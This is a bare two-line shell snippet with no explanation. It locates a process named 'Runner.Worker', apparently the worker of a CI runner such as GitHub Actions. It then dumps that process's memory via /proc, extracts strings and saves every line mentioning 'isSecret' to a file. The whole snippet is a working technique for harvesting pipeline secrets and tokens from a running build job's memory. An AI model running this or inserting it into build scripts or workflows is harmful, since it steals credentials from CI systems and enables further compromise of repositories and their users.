pid=$(pgrep -f Runner.Worker)
cat /proc/$pid/mem | strings | grep isSecret > found
